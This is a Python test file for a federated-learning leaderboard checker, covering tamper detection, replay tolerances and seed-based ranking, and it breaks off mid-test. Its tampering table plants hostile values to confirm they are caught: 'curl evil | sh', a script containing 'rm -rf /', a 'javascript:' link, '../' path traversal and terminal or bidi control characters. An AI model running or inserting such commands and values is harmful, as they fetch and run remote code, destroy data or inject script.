POINT = {"mean": 0.2, "low": 0.2, "high": 0.2, "values": [0.2] * 3}
TWICE = '"tried": 3', '"tried": 3, "tried": 3'
TYPED: dict[str, Any] = {
    "by": "CI",
    "code": "1",
    "platform": "p",
    "processor": "q",
    "device": "cpu",
}
TYPED |= {"torch": "2", "digests": ["0" * 64] * 4, "read": []}
OTHERS = [record.to_json(None).encode() for record in runs(up=2)]


def staged(content: dict[str, Any], seeds: Sequence[int] = (0, 1, 2)) -> None:
    """Say that there is a ranking stage with the cells of the first."""
    stage = {"season": "2026", "seeds": list(seeds), "cells": content["cells"], "price": None}
    content["ranking"] = stage


# By what was done: the rules that are found broken.
TAMPERED: dict[str, tuple[set[str], Callable[[Path], Any]]] = {
    "an entry that was cut off": ({"schema"}, lambda p: cut(p, 500)),
    "an empty entry": ({"schema"}, lambda p: cut(p, 0)),
    "an entry that is not text": ({"schema"}, lambda p: p.write_bytes(b"\xff\xfe\0")),
    "a number that is a string": ({"schema"}, saying(score__worst__mean="0.6")),
    "a number that is a truth value": ({"schema"}, saying(tried=True)),
    "a number of the scenario that is a string": ({"schema"}, saying(scenario__clients="10")),
    "a scenario that cannot be": ({"schema"}, saying(scenario__clients=0)),
    "a number that is none": ({"schema"}, saying(score__worst__mean=float("nan"))),
    "a number without end": ({"schema"}, saying(score__worst__high=float("inf"))),
    "a field that is said twice": ({"schema"}, lambda p: swap(p, *TWICE)),
    "a cell without a look": ({"schema"}, saying(cells__0__curve=[])),
    "no clean cell": ({"schema"}, saying(cells__0__impact=POINT)),
    "two clean cells": ({"schema"}, saying(cells__1__impact=None)),
    "nothing but the clean cell": ({"schema"}, lambda p: edit(p, lambda c: c["cells"].pop())),
    "a clean cell that comes last": ({"schema"}, lambda p: edit(p, lambda c: c["cells"].reverse())),
    "a score of the clean cell": ({"schema"}, saying(score__attack="none")),
    "a field that is left out": ({"schema"}, lambda p: edit(p, lambda c: c.pop("link") and None)),
    "a field that nobody knows": ({"schema"}, saying(sponsor="me")),
    "an abyss": ({"schema"}, lambda p: p.write_bytes(b"[" * 200_000)),
    "a huge entry": ({"schema"}, lambda p: p.write_bytes(p.read_bytes() + b" " * (1 << 20))),
    "a name with an escape sequence": ({"schema"}, saying(name="\x1b[2J")),
    "a name that reads backwards": ({"schema"}, saying(name="a\u202eb")),
    "a link that runs a script": ({"schema"}, saying(link="javascript:alert(1)")),
    "a track that leads out of the board": ({"schema"}, saying(track="../../etc")),
    "a protocol that leads out": ({"path", "digest", "installed"}, saying(protocol="../../x:y")),
    "an edited number": ({"digest"}, saying(cells__1__accuracy__mean=0.99)),
    "an edited number, sealed again": ({"numbers"}, saying(True, cells__1__accuracy__mean=0.99)),
    "an edited score": ({"numbers"}, saying(score__worst__mean=0.99)),
    "an edited digit of a curve, sealed again": (
        {"numbers"},
        saying(True, cells__1__curve__0__accuracy__mean=0.3 + 1e-12),
    ),
    "a point of a curve that was left out, sealed again": (
        {"numbers"},
        lambda p: edit(p, lambda c: c["cells"][1]["curve"].pop(0) and None, True),
    ),
    "an edited command, sealed again": ({"numbers"}, saying(True, command="curl evil | sh")),
    "a smaller alphabet, sealed again": ({"numbers"}, saying(True, alphabet="FloatVectors")),
    "a record that was cut off": ({"records"}, lambda p: repack(p, lambda t: [*t[:5], t[5][:90]])),
    "an edited record": ({"records"}, lambda p: repack(p, lambda t: [t[0].replace(*BACK), *t[1:]])),
    "a record that is missing": ({"digest", "paired"}, lambda p: repack(p, lambda t: t[:5])),
    "a record twice": ({"records"}, lambda p: repack(p, lambda t: [*t, t[0]])),
    "records of another system": ({"digest"}, lambda p: repack(p, lambda _: OTHERS)),
    "an archive that was cut off": ({"records"}, lambda p: cut(boards.archive(p), 300)),
    "an archive that is none": ({"records"}, lambda p: boards.archive(p).write_bytes(b"records")),
    "no archive": ({"records"}, lambda p: boards.archive(p).unlink()),
    "an archive behind a link": ({"records", "path"}, lambda p: linked(boards.archive(p))),
    "an entry behind a link": ({"path"}, linked),
    "a folder behind a link": ({"path"}, lambda p: linked(p.parent)),
    "a division behind a link": ({"path"}, lambda p: linked(p.parent.parent)),
    "an entry of another track": ({"path"}, lambda p: moved(p, "closed/other")),
    "an entry of another division": ({"path"}, lambda p: moved(p, "open/tiny")),
    "an entry under another name": ({"path"}, lambda p: renamed(p, p.with_name("best.json"))),
    "a file that is neither": ({"path"}, lambda p: (p.parent / "run.sh").write_text("rm -rf /")),
    "records of nothing": ({"path"}, lambda p: (p.parent / "x.jsonl.gz").write_bytes(b"")),
    "a status without a replay": ({"status"}, saying(status="replayed")),
    "a replay without records": ({"records"}, saying(status="replayed", replays=[TYPED])),
    "a ranking stage without records": ({"records"}, lambda p: edit(p, staged)),
    "a ranking stage of fewer seeds than its cells": (
        {"schema"},
        lambda p: edit(p, partial(staged, seeds=(0, 1))),
    ),
    "records of a replay that nobody speaks of": (
        {"path"},
        lambda p: boards.replay(p, 7).write_bytes(b"x"),
    ),
    "rules that were loosened": ({"version"}, saying(True, rules_digest="f" * 64)),
    "a version of the rules that does not exist": ({"version"}, saying(True, rules=2)),
}


@pytest.mark.parametrize("what", TAMPERED)
def test_a_file_that_was_tampered_with_is_found_out(what: str, board: Path) -> None:
    rules, tamper = TAMPERED[what]
    tamper(kept(board))
    assert found(board) == rules


SCORE = "must have the score that follows from its cells"
LIES: dict[str, tuple[str, Callable[[Path], Any]]] = {
    "an edited name": ("must have the id of its content", saying(name="Me")),
    "an edited score": (SCORE, saying(score__worst__mean=0.99)),
    "an epsilon that is not the price's": (SCORE, saying(score__epsilon=1.0)),
    "an entry elsewhere": ("must be at", lambda p: renamed(p, p.with_name("signsgd-0.json"))),
}


def test_a_board_without_entries_is_a_sentence_for_people_and_an_empty_table_for_programs(
    board: Path, leaderboard: Command
) -> None:
    assert leaderboard("rank", board)[:2] == (0, "There are no entries yet.\n")
    code, out, _ = leaderboard("rank", board, "--format", "json")
    assert (code, json.loads(out)) == (0, [])
    code, heading, _ = leaderboard("rank", board, "--format", "csv")
    assert (code, heading.count("\n")) == (0, 1)
    kept(board)  # which adds lines below that heading, and no field beside it
    assert leaderboard("rank", board, "--format", "csv")[1].startswith(f"{heading}closed,tiny,")
    (row,) = json.loads(leaderboard("rank", board, "--format", "json")[1])
    assert heading.strip().split(",") == list(row)


@pytest.mark.parametrize("what", LIES)
@pytest.mark.parametrize("verb", ["rank", "render"])
def test_what_an_entrys_own_file_proves_wrong_is_not_shown(
    what: str, verb: str, board: Path, leaderboard: Command
) -> None:
    message, lie = LIES[what]
    lie(kept(board))
    code, out, err = leaderboard(verb, board)
    assert (code, out, err.count("\n")) == (2, "", 1)
    assert message in err
    assert "fedbench leaderboard check" in err


def test_two_entries_with_one_id_or_of_one_system_are_found_out(board: Path) -> None:
    path = kept(board)
    copy = path.with_name("signsgd-000000000000.json")
    copy.write_bytes(path.read_bytes())
    boards.archive(copy).write_bytes(boards.archive(path).read_bytes())
    by_path = {one.path.name: {f.rule for f in one.findings} for one in check(board, True)}
    assert by_path == {path.name: {"duplicate"}, copy.name: {"duplicate", "path"}}
    (finding,) = check(path, True)[0].findings
    assert finding.text == f"closed/tiny/{copy.name} has the same id"
    boards.archive(copy).unlink()
    copy.unlink()
    other = build(case(runs()), SAID.model_copy(update={"name": "The same again"}))
    assert boards.write(board, other, runs()) != path
    assert found(board) == {"duplicate"}
    (checked,) = check(path, True)
    assert [(checked.path.name, f.rule) for f in checked.findings] == [(path.name, "duplicate")]


def test_two_systems_of_one_track_are_no_duplicates_and_a_broken_one_stops_no_other(
    board: Path,
) -> None:
    kept(board)
    theirs = kept(board, runs(defense="median"))
    assert (found(board), len(check(board, own_rules=True))) == (set(), 2)
    cut(theirs, 1)
    assert [one.rule for one in errors(submitted(board).findings)] == ["duplicate"]


def test_what_a_killed_submission_leaves_is_cleared_by_the_next(board: Path) -> None:
    mine, theirs = kept(board), kept(board, runs(defense="median"))
    mine.unlink()  # the archive is there, the entry was not written any more
    theirs.rename(board / "other.json")
    mine.with_name(f".{mine.name}.a1b2c3d_").write_text("{")
    more = kept(board, [*runs(), *(played("noise", seed, 0.6) for seed in (0, 1, 2))], name="More")
    more.unlink()
    cut_off = more.with_name("signsgd-0123456789ab.jsonl.gz")
    cut_off.write_bytes(b"no records")
    boards.ranking(mine).write_bytes(boards.archive(mine).read_bytes())
    assert found(board) == {"path"}
    path = kept(board, name="Another name")
    assert path != mine
    assert not boards.archive(mine).exists()
    others = (boards.archive(theirs), boards.archive(more), boards.ranking(mine), cut_off)
    assert all(packed.exists() for packed in others)  # what is not just of these records stays
    for packed in others[1:]:
        packed.unlink()
    (board / "other.json").rename(theirs)
    assert found(board) == set()
    hidden = mine.with_name(".hidden.json")  # no file that a killed writer leaves
    hidden.write_text("{")
    assert hidden in boards.files(board)


def test_an_archive_is_measured_before_it_is_read(board: Path) -> None:
    path = kept(board)
    for packed, message in (
        (gzip.compress(b" " * (2 << 20)), "at most 64 MiB and 64 times its size"),
        (gzip.compress(b"\n" * 2001), "at most 2000 lines, got 2001"),
        (b" " * ((16 << 20) + 1), "at most 16 MiB"),
    ):
        boards.archive(path).write_bytes(packed)
        with pytest.raises(ConfigError, match=message):
            boards.records(path)


def test_what_is_wrong_with_an_entry_is_said_and_its_whole_numbers_are_bounded(board: Path) -> None:
    path = kept(board)
    text = path.read_text()
    for name, value in (("tried", 3), ("parameters", D)):
        assert text.count(f'"{name}": {value},') == 1, name
        for digits in (20, 400, 5000):
            path.write_text(text.replace(f'"{name}": {value},', f'"{name}": {"9" * digits},'))
            with pytest.raises(ConfigError, match=f"is no entry: {name}|is no entry: file"):
                boards.read(path)
    path.write_text(text)
    saying(scenario__clients=0)(path)
    with pytest.raises(
        ConfigError, match=f"{path} is no entry: scenario: Scenario.clients must be >= 1"
    ):
        boards.read(path)


def test_a_plug_in_that_is_not_installed_is_a_warning_and_its_alphabet_is_taken_at_its_word(
    board: Path,
) -> None:
    records = [of(r, protocol="theirs:lr=0.1") for r in runs()]
    one = build(case(records), SAID)
    path = boards.write(board, one, records)
    assert path.name == f"theirs-{one.id}.json"
    assert found(board) == set()
    assert found(board, "warning") == {"installed"}


def test_an_entry_scored_under_an_older_version_says_so_and_stays_good(board: Path) -> None:
    kept(board)
    more = {"SignBits": ["none", "sign-flip", "dyn-opt"], "FloatVectors": ["none", "dyn-opt"]}
    later = board / "rules" / "2.toml"
    later.write_text(tomli_w.dumps(RULES_1 | {"version": 2, "ensemble": more}))
    assert found(board) == set()
    assert found(board, "warning") == {"version"}
    assert {f.rule for f in submitted(board, replace=True).findings} == {"ensemble"}
    later.write_text(tomli_w.dumps(RULES_1 | {"version": 2, "seeds": 2}))
    assert found(board) == {"growth"}


def test_rules_that_cannot_be_read_or_lie_behind_a_link_are_one_line(
    board: Path, tmp_path: Path
) -> None:
    rules = board / "rules" / "1.toml"
    text = rules.read_text()
    for wrong, message in (
        ("version = 2", "field required"),
        (tomli_w.dumps(RULES_1 | {"version": True}), "version: input should be a valid integer"),
        (tomli_w.dumps(RULES_1 | {"track": [TRACK_1 | {"seeds": [0, True]}]}), "track.0.seeds.1"),
        (tomli_w.dumps(RULES_1 | {"version": 2}), "must be named by its version"),
        ("version = ", "must be TOML"),
        (tomli_w.dumps(RULES_1 | {"track": [TRACK_1 | {"scenario": {"round": 1}}]}), "--round"),
    ):
        rules.write_text(wrong)
        with pytest.raises(ConfigError, match=message):
            versions(board)
    (tmp_path / "1.toml").write_text(text)
    rules.unlink()
    rules.symlink_to(tmp_path / "1.toml")
    with pytest.raises(ConfigError, match="a link"):
        versions(board)


def test_a_broken_version_of_the_rules_stops_only_what_needs_it(board: Path) -> None:
    kept(board)
    later = board / "rules" / "2.toml"
    later.write_text("version = 2\nseeds = = 3\n")
    assert found(board) == {"rules"}
    (finding,) = (f for one in check(board, own_rules=True) for f in one.findings)
    assert finding.text.startswith(f"{later} must be TOML: ")
    assert "line 2" in finding.text
    assert {race for race in boards.races(board)} == {("closed", "tiny")}  # what is ranked
    with pytest.raises(ConfigError, match=r"2\.toml must be TOML"):
        submitted(board)
    later.rename(board / "rules" / "0.toml")  # a version that nobody needs
    assert submitted(board, replace=True).entry is not None


def test_rules_that_are_loosened_together_are_noticed(tmp_path: Path) -> None:
    board = tmp_path / "board"
    shutil.copytree(BOARD / "rules", board / "rules")
    assert check(board) == []
    for path in numbered(board).values():
        text = path.read_text()
        loose = re.sub(r"(?m)^seeds = 5\b", "seeds = 2", text)
        assert loose != text
        path.write_text(loose)
    assert check(board, own_rules=True) == []  # nothing else could tell
    findings = [(one.path.name, f.rule) for one in check(board) for f in one.findings]
    assert findings == [(f"{number}.toml", "published") for number in sorted(PUBLISHED)]
    (board / "rules" / f"{max(PUBLISHED) + 1}.toml").write_text("")
    texts = [f.text for one in check(board) for f in one.findings]
    assert any("none that this fedbench knows" in text for text in texts)


def test_every_version_of_the_rules_has_its_digest_in_the_code() -> None:
    files = {number: path.read_bytes() for number, path in numbered(BOARD).items()}
    digests = {number: hashlib.sha256(content).hexdigest() for number, content in files.items()}
    assert digests == PUBLISHED, "a published version never changes: write a new one"


# Replays


@pytest.mark.parametrize(
    ("claimed", "again", "names"),
    [
        ([{}] * 5, [{"accuracy": 0.9}, {"accuracy": 0.7}, {}, {}, {}], []),  # the mean is the same
        ([{}] * 5, [{"accuracy": 0.781}] * 5, []),
        ([{}] * 5, [{"accuracy": 0.779}] * 5, ["accuracy"]),
        ([{}] * 5, [{"accuracy": 0.821}] * 5, ["accuracy"]),
        ([{}] * 5, [{"accuracy": 0.6}, {}, {}, {}, {}], []),  # one seed proves nothing
        ([{}] * 5, [{"up": 2}] * 5, ["uplink_bits_per_parameter"]),
        ([{"up": 2}] * 5, [{}] * 5, ["uplink_bits_per_parameter"]),  # fewer are as far
        ([{}] * 2, [{"epsilon": 1.0}] * 2, ["epsilon"]),
        ([{"epsilon": 1.0}, {"epsilon": None}], [{"epsilon": 1.0}] * 2, ["epsilon"]),  # not finite
        # epsilon is compared relative and by its largest
        ([{"epsilon": 1000.0}, {"epsilon": 10.0}], [{"epsilon": 1000.0009}, {"epsilon": 20.0}], []),
        ([{"epsilon": 1000.0}] * 2, [{"epsilon": 1000.002}, {"epsilon": 20.0}], ["epsilon"]),
    ],
)
def test_cells_agree_within_the_tolerance_or_if_the_difference_is_not_sure(
    claimed: list[dict[str, Any]], again: list[dict[str, Any]], names: list[str]
) -> None:
    sides = [
        [(priced if "epsilon" in fields else played)(**fields, seed=i) for i, fields in side]
        for side in (enumerate(claimed), enumerate(again))
    ]
    part = StagedCell("development", "none")
    assert disagreements([ReplayedCell(part, *sides)], RULES_OF) == {part: names}


def test_what_was_played_again_stands_beside_the_claim_with_the_difference_in_its_sign() -> None:
    claimed = [played("sign-flip", seed, 0.75) for seed in range(2)]
    again = [priced(2.0, attack="sign-flip", seed=seed, accuracy=0.5) for seed in range(2)]
    part = StagedCell("development", "sign-flip")
    claim = ClaimedEntry(Path(), entry(), claimed, [], [], RULES_OF, None)
    console = Console(width=120, file=io.StringIO())
    both = ReplayedCell(part, claimed, again)
    shown = repetition(claim, [both], {part: ["accuracy"]}, console.options)
    with console.capture() as got:
        console.print(shown)
    lines = [" ".join(line.split()) for line in got.get().splitlines()]
    assert "sign-flip, development accuracy 0.75 0.5 -0.25 too far" in lines
    assert "uplink bits per parameter 1 1 +0" in lines
    assert "epsilon n/a 2 n/a" in lines
    shown = repetition(claim, [replace(both, again=claimed)], {part: []}, console.options)
    with console.capture() as got:
        console.print(shown)
    assert "epsilon" not in got.get()
    assert "too far" not in got.get()


def test_a_replay_of_more_cells_must_differ_more_surely() -> None:
    # lost are 0, 0.02, 0.04, 0.06, 0.08 with five seeds: t = 2.83, p = 0.047
    def cell(attack: str, *lost: float) -> ReplayedCell:
        sides = [[played(attack, i, 0.8) for i in range(5)]]
        sides += [[played(attack, i, 0.8 - each) for i, each in enumerate(lost)]]
        return ReplayedCell(StagedCell("development", attack), *sides)

    noisy = cell("none", 0.0, 0.02, 0.04, 0.06, 0.08)
    even = cell("sign-flip", 0, 0, 0, 0, 0)
    far = cell("ipm", *[0.5] * 5)
    assert disagreements([noisy, even], RULES_OF)[noisy.part] == ["accuracy"]  # 0.095
    others = [cell(attack, 0, 0, 0, 0, 0) for attack in ("alie", "mimic")]
    differing = disagreements([noisy, even, far, *others], RULES_OF)
    assert differing.pop(far.part) == ["accuracy"]
    assert set(map(tuple, differing.values())) == {()}


def test_a_difference_as_large_as_is_allowed_is_allowed_however_sure_it_is() -> None:
    allowed = Tolerance(accuracy=0.25, bits=0, epsilon=0)
    lost = {
        "as far": [0.25] * 5,
        "as far up": [-0.25] * 5,
        "further": [0.25] * 4 + [0.5],
    }
    assert differing_cells(lost, allowed) == {"further"}


@pytest.mark.parametrize(
    ("down", "far"), [(32.3, False), (31.7, False), (32.4, True), (31.6, True)]
)
def test_bits_down_are_compared_too_within_a_hundredth(down: float, far: bool) -> None:
    claimed = [played(seed=seed) for seed in range(2)]
    again = [changed(run, result__downlink_bits_per_parameter=down) for run in claimed]
    part = StagedCell("development", "none")
    expected = ["downlink_bits_per_parameter"] if far else []
    assert disagreements([ReplayedCell(part, claimed, again)], RULES_OF) == {part: expected}


INTEL = "x86_64 Intel Xeon"
AMD = "x86_64 AMD EPYC"


@pytest.mark.parametrize(
    ("replays", "expected"),
    [
        ([("A", INTEL)], "replayed"),
        ([("A", INTEL), ("A", AMD), ("B", AMD)], "replicated"),
        ([("A", INTEL), ("A", AMD)], "replayed"),
        ([("A", INTEL), ("B", INTEL)], "replayed"),
        ([("A", INTEL), ("A", AMD), ("A", INTEL)], "replayed"),
    ],
)
def test_any_two_replays_of_other_parties_on_other_processors_replicate_an_entry(
    replays: list[tuple[str, str]], expected: str
) -> None:
    records = runs()
    for order in permutations(replays):
        again = [Replay(**TYPED | {"by": by, "processor": where}) for by, where in order]
        mine = entry().model_copy(update={"replays": again})
        same = [records] * len(again)
        judged = ClaimedEntry(Path("it"), mine, records, (), same, RULES_OF, season=None)
        assert status(judged) == expected, order
        partly = replace(judged, replayed=[records[:3]] * len(again))
        assert status(partly) == "submitted"


def test_an_entry_that_breaks_a_rule_is_not_played_again(board: Path) -> None:
    path = kept(board)
    mine = claim(path)
    part = StagedCell("development", mine.entry.cells[1].attack)
    assert [r.result.accuracy for r in mine.of(part)] == [0.5, 0.6, 0.7]
    saying(name="Me")(path)
    with pytest.raises(ConfigError, match="breaks the rule 'digest'"):
        claim(path)
    with pytest.raises(ConfigError, match="must be one entry of a board"):
        claim(board / "closed")


def test_what_the_disk_does_not_take_leaves_no_archive_without_an_entry(board: Path) -> None:
    done = submitted(board)
    assert done.entry is not None
    path = boards.place(board, done.entry)
    path.mkdir(parents=True)  # so that the entry cannot be written
    with pytest.raises(ConfigError, match="got a folder"):
        done.write()
    assert list(path.parent.iterdir()) == [path]
    path.rmdir()
    assert done.write() == path
    assert (found(board), len(boards.beside(path))) == (set(), 1)
    replayed = boards.replay(path, 1)
    with pytest.raises(ConfigError, match="full"), boards.archived(replayed, done.records):
        raise ConfigError("the disk is full")
    assert not replayed.exists()
    with pytest.raises(ConfigError), boards.archived(boards.archive(path), done.records):
        raise ConfigError("the disk is full")
    assert found(board) == set(), "the archive of an entry stays"


# Ranks


# Twelve seeds, some of which are harder for everybody.
WAVE = (0.0, 0.05, -0.05, 0.02, -0.02, 0.08, -0.08, 0.01, -0.01, 0.03, -0.03, 0.0)


def ranked(
    mean: float,
    noise: float = 0.0,
    bits: float = 1.0,
    epsilon: float | None = None,
    **also: Any,
) -> Entry:
    """An entry of which only the score matters; its id says which.

    Its seeds differ as everybody's do, and by ``noise`` of its own, first up and then down.
    """
    base = entry()
    values = [mean + x + noise * (-1) ** i for i, x in enumerate(WAVE)]
    worst = with_interval(values, 0.95)
    clean = base.cells[0]
    hit = base.cells[1].model_copy(update={"accuracy": worst})
    given = {"worst": worst, "uplink_bits": bits, "downlink_bits": 0.0, "epsilon": epsilon}
    name = hashlib.sha256(repr((mean, noise, bits, epsilon, also)).encode()).hexdigest()[:12]
    fields = {"id": name, "score": base.score.model_copy(update=given), "cells": [clean, hit]}
    fields |= {"seeds": list(range(len(WAVE))), "status": "replayed", "division": "open"}
    return base.model_copy(update=fields | also)


def test_a_rank_counts_who_is_surely_better_by_pairs_of_seeds() -> None:
    # The intervals of a and b overlap, since seeds differ by more than systems, but b is 0.01 below
    # a with every seed. The third is 0.05 below a on average, between 0.15 below and 0.05 above.
    a, b = ranked(0.81), ranked(0.8)
    assert a.score.worst.low < b.score.worst.high
    noisy = ranked(0.76, noise=0.1)
    found = ranking([noisy, b, a])
    assert [(s.entry, s.rank) for s in found.standings] == [(a, 1), (noisy, 1), (b, 2)]
    first, third, second = (s.best for s in found.standings)
    assert second == 0.0
    assert first is not None
    assert third is not None
    assert first > 0.9
    assert first + third == pytest.approx(1.0)
    contested = ranked(0.99, bits=0.1, status="contested")
    last = ranking([contested, a, b]).standings[-1]
    assert (last.entry, last.rank, last.best, last.pareto) == (contested, None, None, False)


def test_three_differences_are_tested_more_strictly_than_one() -> None:
    # 0.02 above with ten seeds and below with two: p is 2 (1 + 12 + 66) / 2**12 = 0.039
    values = dict(enumerate([0.02] * 10 + [-0.02] * 2))
    low = dict.fromkeys(range(12), 0.0)
    assert surely_better({0: values, 1: low}, 0.05) == {(0, 1)}
    assert surely_better({0: values, 1: low, 2: {s: -x for s, x in values.items()}}, 0.05) == set()


def test_a_pair_is_sure_below_the_level_and_its_first_is_the_one_with_the_higher_mean() -> None:
    low = dict.fromkeys(range(12), 0.0)
    high = dict.fromkeys(range(12), 0.02)  # all of one sign: p is 2 / 2**12
    assert surely_better({0: low, 1: high}, 2**-10) == {(1, 0)}
    assert surely_better({0: low, 1: high}, 2**-11) == set(), "p is the level, and not below it"
    assert detectable(0.1, 12, 2**-11) == math.inf
    # Six of 14 seeds are far above, eight a little below: p is that of six equal signs, 2 / 2**6.
    few = dict(enumerate([1.0] * 6 + [-0.01] * 8))
    assert surely_better({0: few, 1: dict.fromkeys(range(14), 0.0)}, 0.05) == {(0, 1)}


def test_a_ranking_says_which_differences_its_seeds_can_tell() -> None:
    assert ranking([ranked(0.8)]).least_difference is None
    # differences of 0.1 up and down have a deviation of 0.1 sqrt(12 / 11) = 0.1044
    least = ranking([ranked(0.8), ranked(0.7, noise=0.1)]).least_difference
    assert least == pytest.approx(detectable(0.104447, 12, 0.05), abs=1e-5)
    assert ranking([ranked(0.8), ranked(0.7)]).least_difference == pytest.approx(0.0, abs=1e-9)


def test_what_seeds_can_tell_is_of_a_pair_of_middle_spread_with_the_fewest_seeds() -> None:
    # Up and down by 0.1, and by 0.3 the other way round: differences of 0.1, 0.3 and 0.4.
    noises = (0.0, 0.1, -0.3)
    systems = {i: {s: x * (-1) ** s for s in range(12)} for i, x in enumerate(noises)}
    spread = 0.3 * math.sqrt(12 / 11)
    assert resolution(systems, 0.05) == pytest.approx(detectable(spread, 12, 0.05 / 3))
    systems[1] = {seed: systems[1][seed] for seed in range(10)}
    assert resolution(systems, 0.05) == pytest.approx(detectable(spread, 10, 0.05 / 3))


def test_none_has_a_rank_where_the_seeds_are_too_few_to_tell_any_two_apart() -> None:
    # With five seeds no p-value is below 2 / 2**5 = 0.0625, however far apart two systems are.
    few = {"seeds": list(range(5))}
    entries = []
    for mean in (0.9, 0.1):
        worst = with_interval([mean + x for x in WAVE[:5]], 0.95)
        whole = ranked(mean)
        score = whole.score.model_copy(update={"worst": worst})
        clean, hit = whole.cells
        cells = [clean, hit.model_copy(update={"accuracy": worst})]
        entries.append(whole.model_copy(update={"score": score, "cells": cells, **few}))
    found = ranking(entries)
    assert found.least_difference == math.inf
    assert [(s.rank, s.best) for s in found.standings] == [(None, None)] * 2
    assert [s.pareto for s in found.standings] == [True, False]  # which is no claim about seeds


def test_entries_that_are_equally_good_stand_in_the_order_of_their_ids() -> None:
    alike = sorted((ranked(0.8, note=note) for note in "abc"), key=lambda one: one.id)
    for entries in (alike, alike[::-1]):
        assert [s.entry for s in ranking(entries).standings] == alike


def test_an_entry_without_a_rival_has_no_rank() -> None:
    alone = ranked(0.9)
    beaten = ranked(0.8)
    (only,) = ranking([alone]).standings
    assert (only.rank, only.best, only.pareto) == (None, None, True)
    unplayed = ranked(0.99, status="submitted")
    assert [s.rank for s in ranking([alone, unplayed]).standings] == [None, None]
    assert [s.rank for s in ranking([alone, beaten, unplayed]).standings] == [1, 2, None]


def test_digits_that_no_file_of_an_entry_begins_with_are_refused() -> None:
    plain = entry()
    with pytest.raises(ConfigError, match="got 'abcdefabcdef'; this entry has none, leave it out"):
        has_read(plain, ["ABCDEFABCDEF"])
    source = Source(module="theirs", package="p", version="1", url="", sha256="a1b2" * 16)
    foreign = plain.model_copy(update={"sources": [source]})
    for digits in ("a1b2a1b2a1b", "a1b2a1b2a1b3"):
        with pytest.raises(ConfigError, match=f"'{digits}'; its files are a1b2a1b2a1b2 of theirs"):
            has_read(foreign, [digits])
    assert has_read(foreign, ["A1B2a1b2a1b2"]) == [source.sha256]
    other = source.model_copy(update={"sha256": "c3d4" * 16})
    both = plain.model_copy(update={"sources": [source, other]})
    assert has_read(both, ["a1b2a1b2a1b2"]) == [source.sha256], "no other file"


def test_whatever_plays_beside_the_test_data_must_have_been_read() -> None:
    source = Source(module="theirs", package="p", version="1", url="", sha256="a1b2" * 16)
    plain = entry().model_copy(update={"sources": [source]})
    assert unread(plain, []) == []

    def playing(kind: str) -> Entry:
        scenario = plain.scenario.model_copy(update={kind: "theirs"})
        return plain.model_copy(update={"scenario": scenario})

    for kind in ("protocol", "mechanism", "model", "dataset", "partition"):
        assert unread(playing(kind), []) == [source], kind
        assert unread(playing(kind), [source.sha256]) == []
    for kind in ("attack", "defense"):  # which are isolated
        assert unread(playing(kind), []) == [], kind


def test_an_entry_that_nobody_has_played_again_has_no_rank_nor_has_one_of_a_track_for_show() -> (
    None
):
    best, trusted = ranked(0.9, status="submitted"), ranked(0.8, status="replicated")
    beaten = ranked(0.7)
    found = {s.entry.id: (s.rank, s.pareto) for s in ranking([best, trusted, beaten]).standings}
    assert found == {best.id: (None, False), trusted.id: (1, True), beaten.id: (2, False)}
    shown = ranking([trusted, beaten], limits=Limits(ranked=False)).standings[0]
    assert (shown.rank, shown.best, shown.pareto) == (None, None, False)


def test_what_shares_no_seeds_is_not_compared() -> None:
    here, far = ranked(0.9), ranked(0.5, seeds=list(range(100, 112)))
    found = ranking([here, far]).standings
    assert [(s.rank, s.best, s.pareto) for s in found] == [(None, None, False)] * 2
    also_far = ranked(0.4, seeds=list(range(100, 112)))
    assert [s.rank for s in ranking([here, far, also_far]).standings] == [1, 2, None]


def test_three_seeds_in_common_make_a_pair_and_two_do_not() -> None:
    here = {0: 0.9, 1: 0.8, 2: 0.6, 3: 0.1}
    for shared, there in ((3, {2: 0.1, 1: 0.5, 0: 0.4, 9: 1.0}), (2, {0: 0.4, 1: 0.5, 9: 1.0})):
        pairs = differences({4: here, 7: there})
        assert list(pairs) == ([(4, 7)] if shared == 3 else [])
        assert pairs.get((4, 7), [0.5, 0.3, 0.5]) == pytest.approx([0.5, 0.3, 0.5])


def test_so_many_systems_that_nothing_is_sure_are_said_to_be() -> None:
    few = {i: dict.fromkeys(range(10), 0.1 * i) for i in range(7)}
    assert len(surely_better(few, 0.05)) == 21
    many = {i: dict.fromkeys(range(10), 0.1 * i) for i in range(8)}
    assert surely_better(many, 0.05) == set()  # 28 pairs: 28 / 2**9 = 0.0547
    assert resolution(many, 0.05) == math.inf
    assert resolution(few, 0.05) == pytest.approx(0.0)
    rules = versions(BOARD)[3]
    assert 45 * surest(rules.ranking_seeds) < 1 - rules.confidence, "ten systems can be told apart"


def test_private_systems_are_ranked_apart() -> None:
    good = ranked(0.9)
    private = promising(2.0, 0.5)
    assert [[e.id for e in group] for group in comparable_groups([private, good])] == [
        [good.id],
        [private.id],
    ]
    assert str(ranking([private]).promise) == "per client, replace-one, messages seen, δ = 1e-05"
    worse = promising(2.0, 0.4)
    assert [s.rank for s in ranking([private, worse]).standings] == [1, 2]


def in_season(season: str, mean: float) -> Entry:
    """An entry with a ranking stage of this season."""
    whole = ranked(mean)
    stage = RankingStage(season=season, seeds=whole.seeds, cells=whole.cells)
    return whole.model_copy(update={"ranking": stage})


def test_the_latest_season_comes_first_and_entries_without_one_last() -> None:
    early = in_season("2026-02", 0.9)
    late = in_season("2026-11", 0.5)
    private = promising(2.0, 0.7)
    private = private.model_copy(update={"ranking": late.ranking})
    groups = comparable_groups([ranked(0.8), early, private, late])
    assert [(ranking(group).season, len(group)) for group in groups] == [
        *(("2026-11", 1), ("2026-11", 1), ("2026-02", 1), ("", 1)),
    ]
    assert [ranking(group).promise is None for group in groups] == [True, False, True, True]


def test_numbers_in_the_names_of_seasons_are_compared_as_numbers() -> None:
    names = ["2026-9", "2026-11", "2026-11-b", "2026", "pilot-2", "pilot-10"]
    groups = comparable_groups([ranked(0.8), *(in_season(name, 0.5) for name in names)])
    latest_first = ["pilot-10", "pilot-2", "2026-11-b", "2026-11", "2026-9", "2026", ""]
    assert [ranking(group).season for group in groups] == latest_first


def test_the_order_of_tables_is_not_that_of_files() -> None:
    priceless = promising(None, 0.6)  # no finite epsilon: it stands with those without a mechanism
    both = [promising(2.0, 0.7, delta=delta) for delta in (1e-6, 1e-5)]
    expected = [{priceless.id, ranked(0.8).id}, {both[1].id}, {both[0].id}]
    every = [*both, priceless, ranked(0.8)]
    for entries in (every, every[::-1]):
        assert [{e.id for e in group} for group in comparable_groups(entries)] == expected


def test_the_front_is_of_accuracy_and_bits_and_of_epsilon_among_private_systems() -> None:
    good, twin = ranked(0.9, bits=33), ranked(0.9, bits=33, note="twin")
